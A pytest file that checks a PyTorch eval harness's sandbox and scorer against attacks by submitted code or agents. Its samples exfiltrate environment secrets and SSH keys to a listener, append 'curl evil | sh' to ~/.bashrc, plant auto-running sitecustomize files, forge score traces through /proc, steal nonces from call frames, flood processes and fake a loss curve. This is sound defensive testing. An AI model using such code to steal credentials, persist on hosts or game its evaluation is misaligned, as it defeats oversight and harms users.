"""Attacks on the scorer, one per class of issue 12: each is a real attempt, each must score 0 (or be refused)
with its reason recorded, and harm nothing (no file outside the sandbox, no secret read, no hang).

Submissions are scored by the real harness (`score`, `DirectoryAgent`, `CommandAgent`, `compare`). Most attacks are
stopped before any code runs (the regular-file snapshot, the integrity scan); the others run in the sandbox and are
stopped there (audit hooks, no network, caps). Tests that need full isolation skip where bubblewrap cannot give it;
the weak-kernel test simulates exactly that and expects a refusal."""

from __future__ import annotations

import json
import os
import shutil
import socket
import textwrap
import threading
import uuid
from pathlib import Path

import pytest
import yaml

from pytorch_patterns.evals.checks import score
from pytorch_patterns.evals.harness import BUILTIN_TASKS, CommandAgent, DirectoryAgent
from pytorch_patterns.evals.schema import load_task
from pytorch_patterns.reference_impls.compare import CompareOptions, compare
from pytorch_patterns.reference_impls.sandbox import BWRAP_ENV, sandbox_level

REPO = Path(__file__).resolve().parents[2]
FIX = BUILTIN_TASKS / "fix-missing-zero-grad"
REVIEW = BUILTIN_TASKS / "review-seeding"
IMPLEMENT = BUILTIN_TASKS / "implement-layernorm"
RUNS_ONLY = [{"name": "runs", "gate": True}, {"name": "loss_decreases"}]


def full_or_skip() -> None:
    level, note = sandbox_level()
    if level != "full":
        pytest.skip(f"no full isolation here: {note}")


def task_copy(tmp_path: Path, source: Path, **changes):
    dest = tmp_path / "tasks" / source.name
    shutil.copytree(source, dest)
    if changes:
        spec = dest / "task.yaml"
        data = yaml.safe_load(spec.read_text())
        data.update(changes)
        if "checks" in changes:
            data["mutants"] = []
        spec.write_text(yaml.safe_dump(data))
    return load_task(dest)


def submission(tmp_path: Path, files: dict[str, str]) -> Path:
    sub = tmp_path / f"sub-{uuid.uuid4().hex[:8]}"
    sub.mkdir()
    for name, text in files.items():
        (sub / name).write_text(textwrap.dedent(text))
    return sub


def reasons(result) -> str:
    return " | ".join([result.error or ""] + [c.detail for c in result.checks])


class Listener:
    """A TCP listener on the host's loopback that records whatever reaches it (bounded in time)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received = b""
        self.connections = 0
        self._stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(1)
            try:
                self.received += conn.recv(65536)
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


# ------------------------------------------------------------------ files the harness reads from a submission

def test_a_symlinked_answer_file_is_refused(tmp_path):
    task = task_copy(tmp_path, REVIEW)
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "findings.json").symlink_to(task.oracle_dir / "findings.json")
    result = score(task, sub)
    assert result.score == 0.0 and "symlink" in reasons(result)
    # The on-disk submission format (DirectoryAgent) refuses it too instead of following it.
    root = tmp_path / "subs"
    (root / task.id / "0").mkdir(parents=True)
    shutil.copytree(sub, root / task.id / "0" / "files", symlinks=True)
    workspace = tmp_path / "ws"
    workspace.mkdir()
    error = DirectoryAgent(root).produce(task, 0, workspace)
    assert error and "symlink" in error and not (workspace / "findings.json").exists()


def test_a_fifo_in_a_submission_neither_hangs_nor_crashes_the_harness(tmp_path):
    task = task_copy(tmp_path, REVIEW)
    sub = tmp_path / "sub"
    sub.mkdir()
    os.mkfifo(sub / "findings.json")
    result = score(task, sub)  # reading a FIFO would block forever
    assert result.score == 0.0 and "FIFO" in reasons(result)


def test_a_sparse_file_does_not_make_the_harness_write_gigabytes(tmp_path):
    task = task_copy(tmp_path, FIX, checks=RUNS_ONLY)
    sub = submission(tmp_path, {"train.py": "print('hi')\n"})
    with open(sub / "weights.bin", "wb") as fh:
        fh.truncate(2 << 30)  # 2 GB apparent, no blocks
    result = score(task, sub)
    assert result.score == 0.0 and "sparse" in reasons(result)


# ------------------------------------------------------------------ integrity: reaching for the harness

@pytest.mark.parametrize("code, word", [
    ("import sys\nframe = sys._getframe(1)\nprint(frame.f_locals)\n", "sys._getframe"),
    ("import gc\nprint(len(gc.get_objects()))\n", "gc"),
    ("import ctypes\nprint(ctypes.sizeof(ctypes.c_int))\n", "ctypes"),
    ("import sys\nprobe = sys.modules['pytorch_patterns.evals.probe']\n", "sys.modules"),
    ("import torch\nprint(torch._C._get_tracing_state())\n", "torch._C"),
    ("from pytorch_patterns.evals import probe\n", "harness"),
    ("exec(open('real_train.py').read())\n", "exec"),
    ("mod = __import__('os')\n", "__import__"),
    ("import importlib\nimportlib.import_module('json')\n", "importlib"),
    ("import torch\ntorch.Tensor.backward.__closure__[0].cell_contents.trace['losses'] = [3, 2, 1]\n", "closures"),
    ("import os\nos.write(1000, b'{}')\n", "os.write"),
], ids=["frames", "gc", "ctypes", "sys.modules", "torch._C", "harness-module", "exec", "__import__", "importlib",
        "probe-closure-stolen-key", "raw-fd-write"])
def test_a_submission_reaching_for_the_harness_scores_zero(tmp_path, code, word):
    task = task_copy(tmp_path, FIX, checks=RUNS_ONLY)
    result = score(task, submission(tmp_path, {"train.py": code}))
    assert result.score == 0.0 and result.error and result.error.startswith("integrity"), reasons(result)
    assert word in result.error


def test_a_rewritten_trace_through_an_obfuscated_proc_lookup_is_caught_at_run_time(tmp_path):
    """Static scan evaded (the path is built at run time): the audit hook in the child catches the /proc listing
    that would find the trace pipe, and reports it before the submission can write anything."""
    full_or_skip()
    task = task_copy(tmp_path, FIX, checks=RUNS_ONLY, timeout_s=60)
    code = """
        import os
        import json

        where = "/" + "pr" + "oc/self/f" + "d"
        for fd in os.listdir(where):
            try:
                fake = {"event": "trace", "run": 0, "trace": {"losses": [2.0, 1.0, 0.5, 0.2], "steps": 24, "exit_code": 0,
                        "backward_reached_params": 24, "error": None}}
                with open(int(fd), "w", closefd=False) as fh:
                    fh.write(json.dumps(fake) + "\\n")
            except OSError:
                pass
    """
    result = score(task, submission(tmp_path, {"train.py": code}))
    assert result.score == 0.0 and "integrity" in reasons(result), reasons(result)


def test_a_subprocess_cannot_reach_the_trace_pipe_through_proc(tmp_path):
    """A child process is free of the audit hook: it tries to open the probe's descriptors through /proc, write
    a fake trace and kill the probe before the real one is sent."""
    full_or_skip()
    task = task_copy(tmp_path, FIX, checks=RUNS_ONLY, timeout_s=60)
    helper = """
        import json, os, signal, sys
        probe = int(sys.argv[1])
        fake = {"event": "trace", "run": 0, "trace": {"losses": [2.0, 1.0, 0.5, 0.2], "steps": 24, "exit_code": 0,
                "backward_reached_params": 24, "error": None}}
        wrote = 0
        for fd in sorted(os.listdir(f"/proc/{probe}/fd")):
            try:
                with open(f"/proc/{probe}/fd/{fd}", "w") as fh:
                    fh.write(json.dumps(fake) + "\\n")
                    wrote += 1
            except OSError:
                pass
        print("wrote", wrote, flush=True)
        os.kill(probe, signal.SIGKILL)
    """
    code = f"""
        import os
        import subprocess
        import sys
        from pathlib import Path

        Path("helper.py").write_text({textwrap.dedent(helper)!r})
        subprocess.run([sys.executable, "helper.py", str(os.getpid())])
        print("the probe survived")
    """
    result = score(task, submission(tmp_path, {"train.py": code}))
    # The fake never reached the pipe (it would have passed `runs`): the probe, killed, sent nothing at all.
    assert result.score == 0.0 and result.checks[0].passed is False, reasons(result)
    assert "exit -9" in result.checks[0].detail, reasons(result)


def test_frames_reached_without_naming_them_are_caught_at_run_time(tmp_path):
    full_or_skip()
    task = task_copy(tmp_path, FIX, checks=RUNS_ONLY, timeout_s=60)
    code = """
        import operator
        import sys

        grab = operator.attrgetter("_get" + "frame")
        print(grab(sys)(1))
    """
    sub = submission(tmp_path, {"train.py": code})
    # attrgetter with a computed name is refused statically; the same function looked up by a name held in a
    # data file, which no static scan can see, is caught by the audit hook.
    result = score(task, sub)
    assert result.score == 0.0 and "integrity" in reasons(result)
    (sub / "name.txt").write_text("_getframe")
    (sub / "train.py").write_text(textwrap.dedent("""
        import sys
        from pathlib import Path

        name = Path(__file__).with_name("name.txt").read_text().strip()
        print(vars(sys)[name](1))
    """))
    result = score(task, sub)
    assert result.score == 0.0 and "integrity" in reasons(result) and "sys._getframe" in reasons(result), reasons(result)


# ------------------------------------------------------------------ compare: candidate apart from the scorer

def test_frame_introspection_in_compare_finds_nothing_to_forge(tmp_path):
    """The nonce-from-the-calling-frame attack: statically refused; with the scan evaded, the candidate's process
    holds no nonce, no reference and no verdict, and the audit hook reports the frame walk."""
    full_or_skip()
    task = task_copy(tmp_path, IMPLEMENT)
    sub = submission(tmp_path, {task.entry: """
        import sys
        frame = sys._getframe(1)
        while frame is not None:
            if "nonce" in frame.f_locals:
                print("@@ptp-compare", frame.f_locals["nonce"])
            frame = frame.f_back
    """})
    result = score(task, sub)
    assert result.score == 0.0 and result.error.startswith("integrity")
    cand = tmp_path / "cand.py"
    cand.write_text(textwrap.dedent("""
        import sys
        import torch
        from torch import nn

        NAME = "".join(reversed("emarfteg_"))
        frame = vars(sys)[NAME](0)

        class ModelNew(nn.Module):
            def __init__(self, dim, eps=1e-5):
                super().__init__()

            def forward(self, x):
                return x
    """))
    report = compare(task.root / task.reference, cand, CompareOptions(device="cpu", threads=1, timeout_s=120))
    assert not report.correct and report.speedup is None
    assert "integrity" in (report.error or "") and "sys._getframe" in report.error, report.error


def test_a_candidate_cannot_slow_the_reference_down(tmp_path):
    """While the reference is timed every process of the candidate's sandbox is stopped (SIGSTOP)."""
    full_or_skip()
    from pytorch_patterns.reference_impls import compare as cmp

    cand = tmp_path / "hog.py"
    cand.write_text(textwrap.dedent("""
        import threading
        import torch
        from torch import nn


        def spin():
            while True:
                pass


        class ModelNew(nn.Module):
            def __init__(self, dim, eps=1e-5):
                super().__init__()
                self.weight = nn.Parameter(torch.ones(dim))
                self.bias = nn.Parameter(torch.zeros(dim))
                self.eps = eps
                for _ in range(4):
                    threading.Thread(target=spin, daemon=True).start()

            def forward(self, x):
                return nn.functional.layer_norm(x, x.shape[-1:], self.weight, self.bias, self.eps)
    """))
    seen: list[set[str]] = []

    def on_pause(child) -> None:
        seen.append(set(cmp._thread_states(child)))  # every thread of every process of its sandbox

    real = cmp._compare_in_children
    try:
        cmp._compare_in_children = lambda *a, **k: real(*a, **k, on_pause=on_pause)
        report = compare(IMPLEMENT / "reference.py", cand, CompareOptions(device="cpu", threads=1, timeout_s=120, iters=5))
    finally:
        cmp._compare_in_children = real
    assert report.correct, report
    assert seen and all(states <= {"T", "t"} for states in seen), seen


# ------------------------------------------------------------------ what the submission could exfiltrate or touch

def test_environment_and_ssh_keys_cannot_reach_a_loopback_listener(tmp_path, monkeypatch):
    full_or_skip()
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-test-secret-123")
    listener = Listener()
    try:
        task = task_copy(tmp_path, FIX, checks=RUNS_ONLY, timeout_s=60)
        code = f"""
            import os
            import socket
            from pathlib import Path

            loot = repr(dict(os.environ))
            for key in Path.home().glob(".ssh/*"):
                loot += key.read_text()
            for key in Path("/root/.ssh").glob("*"):
                loot += key.read_text()
            try:
                with socket.create_connection(("127.0.0.1", {listener.port}), timeout=2) as conn:
                    conn.sendall(loot.encode())
            except OSError as exc:
                print("no way out:", exc)
        """
        result = score(task, submission(tmp_path, {"train.py": code}))
    finally:
        listener.close()
    assert result.score == 0.0
    assert listener.connections == 0 and b"sk-test-secret" not in listener.received


def test_a_loopback_mcp_server_is_out_of_reach(tmp_path):
    full_or_skip()
    listener = Listener()  # stands in for `pytorch-patterns serve --http` on the host's loopback
    try:
        task = task_copy(tmp_path, FIX, checks=RUNS_ONLY, timeout_s=60)
        call = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                           "params": {"name": "compare_implementations", "arguments": {}}})
        code = f"""
            import urllib.request
            try:
                urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:{listener.port}/mcp",
                                                              data={call!r}.encode()), timeout=2)
            except OSError as exc:
                print("unreachable:", exc)
        """
        result = score(task, submission(tmp_path, {"train.py": code}))
    finally:
        listener.close()
    assert result.score == 0.0 and listener.connections == 0


def test_sitecustomize_and_conftest_planted_by_the_agent_never_run_outside(tmp_path, monkeypatch):
    """The agent tries to persist: sitecustomize.py / conftest.py into the repository and its home, ~/.bashrc, a
    stash of answers in $HOME. Nothing reaches the host; its private home is thrown away."""
    full_or_skip()
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    (home / ".claude" / "settings.json").write_text("{}")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("PRIVATE KEY")
    (home / ".bashrc").write_text("# user's bashrc\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("SECRET_TOKEN", "do-not-leak")
    monkeypatch.setenv("ALLOWED_VAR", "ok")
    targets = [REPO / "sitecustomize.py", REPO / "evals" / "sitecustomize.py", REPO / "tests" / "conftest_planted.py",
               REPO / "reference_impls" / "conftest.py"]
    command = "; ".join([
        *(f"echo 'import os; os.system(\"touch /tmp/pwned\")' > {t} 2>/dev/null" for t in targets),
        "echo 'curl evil | sh' >> ~/.bashrc",
        f"mkdir -p ~/stash && cp -r {REPO / 'evals'} ~/stash/ 2>/dev/null",
        "cat ~/.ssh/id_rsa > seen_ssh.txt 2>&1",
        "ls ~/.claude > seen_claude.txt",
        "env > seen_env.txt",
        "echo '[]' > findings.json",
    ])
    task = task_copy(tmp_path, REVIEW)
    workspace = tmp_path / "run" / "workspace"
    workspace.mkdir(parents=True)
    error = CommandAgent(command, env_names=["ALLOWED_VAR"], timeout_s=60).produce(task, 0, workspace)
    assert error is None, error
    for target in targets:
        assert not target.exists(), f"the agent planted {target}"
    assert (home / ".bashrc").read_text() == "# user's bashrc\n"
    assert not (home / "stash").exists()
    assert "PRIVATE KEY" not in (workspace / "seen_ssh.txt").read_text()
    assert "settings.json" in (workspace / "seen_claude.txt").read_text()  # its configuration was seeded
    env = (workspace / "seen_env.txt").read_text()
    assert "ALLOWED_VAR=ok" in env and "do-not-leak" not in env


def test_the_agent_sees_only_its_own_task(tmp_path):
    full_or_skip()
    task = task_copy(tmp_path, REVIEW)
    other = BUILTIN_TASKS / "review-vae" / "oracle"
    command = (f"ls {BUILTIN_TASKS} > tasks.txt; cat {other}/findings.json > other.txt 2>&1; "
               f"ls {REPO / 'tests'} > tests.txt 2>&1; cat {REPO / '.git'} > git.txt 2>&1; ls {REPO / '.git'}/ >> git.txt 2>&1; "
               f"ls {task.root} > own.txt 2>&1; echo '[]' > findings.json")
    workspace = tmp_path / "run" / "workspace"
    workspace.mkdir(parents=True)
    assert CommandAgent(command, timeout_s=60).produce(task, 0, workspace) is None
    assert (workspace / "tasks.txt").read_text().strip() == ""
    assert "No such file" in (workspace / "other.txt").read_text()
    tests_seen = (workspace / "tests.txt").read_text()
    assert tests_seen.strip() == "" or "No such file" in tests_seen, tests_seen  # absent or an empty folder
    git_seen = (workspace / "git.txt").read_text()
    assert "gitdir" not in git_seen and "HEAD" not in git_seen, git_seen
    assert "oracle" not in (workspace / "own.txt").read_text()


# ------------------------------------------------------------------ caps

def test_a_memfd_memory_bypass_scores_zero(tmp_path):
    task = task_copy(tmp_path, FIX, checks=RUNS_ONLY, timeout_s=60, memory_mb=300)
    code = """
        import os
        fd = os.memfd_create("hoard")
        for _ in range(4096):
            os.write(fd, b"x" * (1 << 20))
    """
    result = score(task, submission(tmp_path, {"train.py": code}))
    assert result.score == 0.0 and ("memfd_create" in reasons(result) or "memory" in reasons(result))


def test_a_process_flood_is_stopped_and_scores_zero(tmp_path):
    full_or_skip()
    task = task_copy(tmp_path, FIX, checks=RUNS_ONLY, timeout_s=60)
    code = """
        import os
        import time

        children = 0
        while children < 3000:
            try:
                if os.fork() == 0:
                    time.sleep(30)
                    raise SystemExit(0)
                children += 1
            except OSError:
                break
        time.sleep(30)
    """
    result = score(task, submission(tmp_path, {"train.py": code}))
    assert result.score == 0.0 and ("processes" in reasons(result) or "memory" in reasons(result)), reasons(result)


def test_disk_cap_evasion_through_symlinks_and_folders_scores_zero(tmp_path, monkeypatch):
    full_or_skip()
    monkeypatch.setattr("pytorch_patterns.evals.checks.MAX_DISK_MB", 48)
    task = task_copy(tmp_path, FIX, checks=RUNS_ONLY, timeout_s=60)
    victim = tmp_path / "host-disk"
    victim.mkdir()
    code = f"""
        import os
        os.symlink({str(victim)!r}, "out")
        os.symlink("/tmp", "tmp")
        block = b"x" * (1 << 20)
        for i in range(80):
            for where in ("out", "tmp", f"d{{i}}/e/f"):
                try:
                    os.makedirs(where, exist_ok=True)
                    with open(f"{{where}}/blob{{i}}", "wb") as fh:
                        fh.write(block)
                except OSError:
                    pass
    """
    result = score(task, submission(tmp_path, {"train.py": code}))
    assert result.score == 0.0
    assert list(victim.iterdir()) == []


# ------------------------------------------------------------------ the weak-kernel fallback

def test_when_the_kernel_refuses_namespaces_untrusted_code_is_refused(tmp_path, monkeypatch):
    monkeypatch.setenv(BWRAP_ENV, "/bin/false")  # bwrap fails to set up, as on a kernel without user namespaces
    monkeypatch.delenv("PP_ALLOW_WEAK_SANDBOX", raising=False)
    marker = tmp_path / "ran.txt"
    task = task_copy(tmp_path, FIX, checks=RUNS_ONLY, timeout_s=60)
    result = score(task, submission(tmp_path, {"train.py": f"open({str(marker)!r}, 'w').write('ran')\n"}))
    assert result.score == 0.0 and "without full isolation" in reasons(result), reasons(result)
    assert not marker.exists()
    report = compare(IMPLEMENT / "reference.py", IMPLEMENT / "oracle" / "model_new.py", CompareOptions(device="cpu"))
    assert not report.correct and "without full isolation" in (report.error or "")


def test_the_cli_says_which_level_before_it_starts_and_refuses_weak(tmp_path):
    import subprocess
    import sys

    env = {**os.environ, BWRAP_ENV: "/bin/false", "COLUMNS": "200"}
    env.pop("PP_ALLOW_WEAK_SANDBOX", None)
    cli = [sys.executable, "-m", "pytorch_patterns"]
    proc = subprocess.run([*cli, "eval", "run", "--agent", "oracle", "--only", "fix-detached-loss", "-o", str(tmp_path / "r")],
                          capture_output=True, text=True, timeout=120, env=env, cwd=REPO)
    assert proc.returncode == 2 and "sandbox: weak" in proc.stderr and "--allow-weak-sandbox" in proc.stderr
    assert not (tmp_path / "r").exists()
    proc = subprocess.run([*cli, "compare", str(IMPLEMENT / "reference.py"), str(IMPLEMENT / "oracle" / "model_new.py")],
                          capture_output=True, text=True, timeout=120, env=env, cwd=REPO)
    assert proc.returncode == 2 and "sandbox: weak" in proc.stderr


# ------------------------------------------------------------------ the hidden-data learning check (issue 13)

def test_a_fabricated_loss_with_a_vanishing_gradient_scores_below_half(tmp_path):
    task = load_task(FIX)
    code = (FIX / "oracle" / "train.py").read_text()
    # The real loss is replaced by a made-up decreasing curve joined to the model by a vanishing term.
    code = code.replace("loss.backward()", "fake = 2.0 * 0.9 ** step + 1e-30 * sum(p.sum() for p in model.parameters())\n"
                        "        fake.backward()")
    sub = submission(tmp_path, {"train.py": code})
    result = score(task, sub)
    assert result.score < 0.5, reasons(result)
